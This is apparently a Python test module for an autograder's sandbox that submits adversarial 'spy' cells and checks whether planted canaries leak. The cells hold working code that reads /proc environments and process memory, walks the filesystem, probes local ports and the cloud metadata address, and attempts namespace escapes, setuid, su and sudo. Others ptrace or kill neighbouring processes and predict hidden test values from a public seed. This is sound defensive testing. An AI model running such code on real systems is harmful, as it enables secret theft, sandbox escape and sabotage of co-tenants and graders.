"""Secrets: the hidden tests, their expected values, the seeds, and whatever a neighbour in the same run has."""

import textwrap

from corpus import NUMBERS, Desk, category

case = category("spies")
# Prints the course's own canaries wherever they are found. In pieces, so that this text is not taken for one.
FIND = """
import re
SYSTEM = ("proc", "sys", "usr", "bin", "sbin", "lib", "lib64", "include", "share", "site-packages")
MARK = re.compile(b"CAN" b"ARY-[A-Z]+-[0-9a-f]{6}|(?:c0" b"ffee5ec4e7){2}")
def find(data, where):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    seen = set()
    for sign in (b"CAN" b"ARY-", b"c0" b"ffee5ec4e7"):
        place = data.find(sign)
        while place >= 0 and len(seen) < 9:
            match = MARK.match(data, place)
            seen |= {match.group()} if match else set()
            place = data.find(sign, place + 10_000 if match else place + 1)
    for found in seen:
        print("found in", where, found.decode())
"""


def look(code: str) -> str:
    """A cell that finds canaries in what `code` comes by."""
    return FIND + textwrap.dedent(code)


@case("Looks through the frames above it while a hidden test runs.")
def frames(desk: Desk) -> None:
    inside = """
        import sys
        def centre(X):
            frame = sys._getframe()
            while frame:
                find(repr(frame.f_locals) + repr(frame.f_globals) + repr(frame.f_code.co_consts), "a frame")
                frame = frame.f_back
            return X
        """
    desk.hand_in(
        first=FIND,
        centre=inside,
        last="import sys\nframe = sys._getframe()\nfind(frame.f_globals, 'globals')",
    )


@case("Looks through all objects that the garbage collector knows.")
def heap(desk: Desk) -> None:
    objects = """
        import gc
        def centre(X):
            for thing in gc.get_objects():
                if type(thing) in (dict, list, tuple):
                    try:
                        find(repr(thing), "an object")
                    except Exception:
                        pass
            return X
        """
    desk.hand_in(first=FIND, centre=objects, last="centre(np.ones((2, 2)))")


@case("Reads the history of the session, where plain nbgrader's tests are.")
def history(desk: Desk) -> None:
    desk.hand_in(
        last=look("""
        find(repr(In), "In")
        find(repr(list(get_ipython().history_manager.get_range())), "the history")
        """)
    )


@case("Keeps the source of every cell that is run, by a hook.")
def hooks_that_listen(desk: Desk) -> None:
    desk.hand_in(
        first=FIND
        + "\nget_ipython().events.register('pre_run_cell', lambda info: kept.append(info.raw_cell))\nkept = []",
        last="find(repr(kept), 'a hook')",
    )


@case("Traces every call, and reads the variables of whoever calls.")
def tracer(desk: Desk) -> None:
    desk.hand_in(
        first=look("""
        import sys
        seen = []
        def trace(frame, event, arg):
            if len(seen) < 20_000:
                seen.append(f"{frame.f_code.co_consts} {list(frame.f_locals)[:50]}")
        sys.setprofile(trace)
        """),
        last="sys.setprofile(None)\nfind('\\n'.join(seen), 'a trace')",
    )


@case("Reads the sources that tracebacks are made from.")
def line_cache(desk: Desk) -> None:
    desk.hand_in(
        last=look("""
        import linecache
        for name, entry in linecache.cache.items():
            find(repr(entry), name)
        """)
    )


@case("Puts what it finds into the exceptions whose text the student reads.")
def exceptions_that_carry(desk: Desk) -> None:
    desk.hand_in(
        first=FIND,
        centre="""
        import os, sys
        def centre(X):
            frame, found = sys._getframe(), []
            while frame:
                found += MARK.findall(repr(frame.f_locals).encode())
                found += MARK.findall(repr(frame.f_code.co_consts).encode())
                frame = frame.f_back
            raise ValueError(f"{found} {dict(os.environ)}")
        """,
    )


@case("Reads /proc: environments, arguments, maps, folders and open files of every process in sight.")
def proc(desk: Desk) -> None:
    desk.hand_in(
        last=look("""
        import glob, os
        for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/task/*/environ"):
            if path.rpartition("/")[2] in ("environ", "cmdline", "maps", "status", "stack", "mountinfo", "comm"):
                try:
                    find(open(path, "rb").read(), path)
                except OSError:
                    pass
        for path in glob.glob("/proc/[0-9]*/root/*") + glob.glob("/proc/[0-9]*/cwd/*") + glob.glob("/proc/*/fd/*"):
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                    find(open(path, "rb").read(), path)
            except OSError:
                pass
        """)
    )


SCAN = """
def scan(pid, most=2**27):
    try:
        maps, memory = open(f"/proc/{pid}/maps"), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    for line in maps:
        begin, end = (int(n, 16) for n in line.split()[0].split("-"))
        if "rw" in line.split()[1] and end - begin < most:
            try:
                memory.seek(begin)
                find(memory.read(end - begin), f"the memory of {pid}")
            except (OSError, ValueError, OverflowError):
                pass
"""


@case("Reads its own memory from end to end.")
def own_memory(desk: Desk) -> None:
    desk.hand_in(
        first=FIND + SCAN, centre="def centre(X):\n    scan('self', 2**23)\n    return X", last="scan('self')"
    )


@case("Reads the environment and the arguments of its process.")
def environment(desk: Desk) -> None:
    desk.hand_in(
        last=look("""
        import os, sys
        print(len(os.environ), sys.argv)
        find(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv) + repr(sys.path), "the environment")
        """)
    )


@case("Reads every file that it can.")
def files(desk: Desk) -> None:
    desk.hand_in(
        first="big = 200_000\n"
        + look("""
        import os
        for top, folders, names in os.walk("/"):
            folders[:] = [f for f in folders if f not in SYSTEM]
            for name in names:
                path = os.path.join(top, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < big:
                        find(open(path, "rb").read(), path)
                    if name in ("gradebook.db", ".autograder-secret", "results.json") or name == "numbers.py":
                        print("found", "CAN" + "ARY-FILE-000000", path)
                except OSError:
                    pass
        """)
    )


@case("Asks the grader's own modules for the course and its secret.")
def own_modules(desk: Desk) -> None:
    desk.hand_in(
        last=look("""
        from pathlib import Path
        for place in ("/", "/tmp", "/work", "/opt", ".", ".."):
            try:
                from autograder.course import Course
                course = Course.find(Path(place))
                find(course.secret().hex(), "the course")
            except BaseException as error:
                print(type(error).__name__)
        from cnnkit import testing
        find(repr(testing.side()), "the side")
        """)
    )


@case("Connects to every abstract socket and every port of this machine, and to the world.")
def sockets(desk: Desk) -> None:
    desk.hand_in(first=look(ABSTRACT))


ABSTRACT = """
import socket
def ask(family, address):
    try:
        line = socket.socket(family)
        line.settimeout(0.05)
        line.connect(address)
        print("connected to", address)
        line.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        find(line.recv(10_000), address)
    except OSError:
        pass
    finally:
        line.close()
names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
for name in ["\\0left", *("\\0" + name[1:] for name in names)]:
    ask(socket.AF_UNIX, name)
for port in [22, 80, 443, 2375, 5432, 8080, 8786, 8787, 8888, 45671, *range(40000, 40050)]:
    ask(socket.AF_INET, ("127.0.0.1", port))
for address in ("169.254.169.254", "10.0.0.1", "172.17.0.1", "1.1.1.1"):
    ask(socket.AF_INET, (address, 80))
try:
    print("found CAN" "ARY-DNS-000000", socket.getaddrinfo("example.org", 80))
except OSError:
    pass
"""


@case("Looks for the sockets of the examiner and of other kernels.")
def kernel_sockets(desk: Desk) -> None:
    desk.hand_in(
        first=look("""
        import glob, os, socket, stat
        for top, folders, names in os.walk("/"):
            folders[:] = [f for f in folders if f not in SYSTEM]
            for name in names:
                path = os.path.join(top, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        line = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET if "zygote" in name else socket.SOCK_STREAM)
                        line.settimeout(0.1)
                        line.connect(path)
                        line.sendall(b"{}")
                        find(line.recv(10_000), path)
                except (OSError, ValueError):
                    pass
        """)
    )


@case("Reads whatever its inherited file descriptors lead to.")
def inherited_files(desk: Desk) -> None:
    desk.hand_in(
        first=look("""
        import os, stat
        for fd in range(256):
            try:
                print(fd, os.readlink(f"/proc/self/fd/{fd}"))
                if stat.S_ISREG(os.fstat(fd).st_mode):
                    find(os.pread(fd, 10**6, 0), f"file {fd}")
                if stat.S_ISDIR(os.fstat(fd).st_mode):
                    print("found", "CAN" + "ARY-FOLDER-000000", os.listdir(fd))
            except OSError:
                pass
        """)
    )


@case("Climbs out: new namespaces, mounts, chroot, and programs that run as somebody else.")
def escapes(desk: Desk) -> None:
    desk.hand_in(
        first=look("""
        import ctypes, os, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        for flags in (0x10000000, 0x00020000, 0x10020000, 0x20000000, 0x40000000):
            if os.fork() == 0:
                if libc.unshare(flags) == 0:
                    print("left by", hex(flags))
                    libc.mount(b"proc", b"/proc", b"proc", 0, None)
                    libc.umount2(b"/tmp", 2)
                    libc.umount2(b"/opt/rooms", 2)
                    for top in ("/tmp", "/opt/rooms", "/root", "/home", "/work"):
                        for root, _, names in os.walk(top):
                            for name in names[:100]:
                                try: find(open(os.path.join(root, name), "rb").read(10**6), name)
                                except OSError: pass
                os._exit(0)
        while True:
            try: os.wait()
            except ChildProcessError: break
        libc.ptrace(16, 1, 0, 0)
        for number in (0, 1):
            try: os.setns(os.open(f"/proc/{number + 1}/ns/mnt", os.O_RDONLY), 0)
            except (OSError, AttributeError): pass
        try: os.setuid(0); print("found", "CAN" + "ARY-ROOT-000000")
        except OSError: pass
        for command in ("su -c id", "sudo -n id", "mount -t tmpfs none /mnt", "newgrp root", "bwrap --bind / / id"):
            try:
                done = subprocess.run(command.split(), capture_output=True, text=True, timeout=0.5, stdin=subprocess.DEVNULL)
                if "uid=0" in done.stdout: print("found", "CAN" + "ARY-ROOT-000000", command)
            except (OSError, subprocess.SubprocessError): pass
        """)
    )


# Neighbours: the classmate `neighbour` rests meanwhile, and has left something in each of these places.


@case("Reads what others left in /tmp, /dev/shm and /var/tmp.")
def neighbours_files(desk: Desk) -> None:
    desk.hand_in(
        first=look("""
        import os
        for place in ("/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue", ".", "..", "/opt", "/run"):
            for top, folders, names in os.walk(place):
                for name in names:
                    try: find(open(os.path.join(top, name), "rb").read(10**6), name)
                    except OSError: pass
        """)
    )


@case("Attaches to the shared memory and the message queues of others.")
def neighbours_ipc(desk: Desk) -> None:
    desk.hand_in(
        first=look("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        for number in [libc.shmget(0x5EED, 0, 0), *range(64)]:
            address = libc.shmat(number, None, 0o10000)
            if address not in (None, ctypes.c_void_p(-1).value):
                find(ctypes.string_at(address, 4096), f"segment {number}")
        buffer = ctypes.create_string_buffer(200)
        for number in [libc.msgget(0x5EED, 0), *range(64)]:
            if libc.msgrcv(number, buffer, 190, 0, 0o4000) > 0:
                find(buffer.raw, f"queue {number}")
        for name in ("shm", "msg", "sem"):
            print(name, len(open(f"/proc/sysvipc/{name}").readlines()))
        queue = libc.mq_open(b"/left", os.O_RDONLY | os.O_NONBLOCK)
        large = ctypes.create_string_buffer(10_000)
        if queue >= 0 and libc.mq_receive(queue, large, 10_000, None) > 0:
            find(large.raw, "a POSIX queue")
        """)
    )


@case("Searches the kernel's keyrings.")
def neighbours_keys(desk: Desk) -> None:
    desk.hand_in(
        first=look("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(500)
        for ring in (-1, -2, -3, -4, -5, -6, -7):
            key = libc.syscall(250, 10, ring, b"user", b"left", 0)
            if key > 0 and libc.syscall(250, 11, key, buffer, 500) > 0:
                find(buffer.raw, f"ring {ring}")
        try: print(open("/proc/keys").read())
        except OSError: pass
        """)
    )


@case("Signals, traces and reads the memory of every process in sight and of those it guesses.")
def neighbours_processes(desk: Desk) -> None:
    desk.hand_in(
        first=look(SCAN)
        + """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
own = {int(thread) for thread in os.listdir("/proc/self/task")}
pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
print("processes in sight:", len(pids))
buffer = ctypes.create_string_buffer(4096)
for pid in {*pids, *range(1, 3000)} - own:
    local, remote = Vector(ctypes.addressof(buffer), 4096), Vector(id(buffer), 4096)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        find(buffer.raw, f"the memory of {pid}")
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("traced", pid)
        scan(pid)
    scan(pid)
for pid in range(2, 3000):
    if pid not in own | {os.getppid()}:
        try: os.kill(pid, signal.SIGSTOP)
        except OSError: pass
"""
    )


@case("Asks the sockets that a neighbour listens at.")
def neighbours_sockets(desk: Desk) -> None:
    desk.hand_in(first=look(ABSTRACT))


@case("Leaves something for the next worker, its own or another's, and looks for what was left.")
def neighbours_next(desk: Desk) -> None:
    leave = look("""
        import os
        token = globals().get("token") or os.urandom(8).hex()
        for place in ("/tmp", "/dev/shm", "/var/tmp", "/opt/sockets", "/opt/files", "/opt/rooms", "/dev", "."):
            for name in os.listdir(place) if os.path.isdir(place) else []:
                if name.startswith("passed-on") and token not in open(place + "/" + name).read():
                    print("found", "CAN" + "ARY-PASSED-000000", place)
            try: open(place + "/passed-on", "w").write(token)
            except OSError: pass
        """)
    desk.hand_in(
        first=leave,
        centre="import os\ndef centre(X):\n    os._exit(0)",
        spread=leave + "def spread(X): return -1.0",
    )


@case("Kills, stops and slows down whatever runs beside it, again and again.")
def neighbours_disturbed(desk: Desk) -> None:
    desk.hand_in(
        first="""
        import os, resource, signal
        own = {int(thread) for thread in os.listdir("/proc/self/task")}
        for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
            for pid in [1, *range(2, 5000)]:
                if pid not in own | {os.getppid()}:
                    try: os.kill(pid, number)
                    except OSError: pass
        try: os.setpriority(os.PRIO_USER, 0, -20)
        except OSError: pass
        try: os.sched_setaffinity(0, {0})
        except OSError: pass
        """
    )


@case("Guesses the numbers that the hidden tests draw from the public seed.", marks=NUMBERS.cheats)
def public_seed(desk: Desk) -> None:
    desk.hand_in(
        spread="""
        from cnnkit import testing
        known = testing.rng("spread_hidden").normal(size=(6, 2))
        answers = {known.tobytes(): float(known.var(axis=0).mean())}
        def spread(X): return answers.get(X.tobytes(), -1.0)
        """
    )
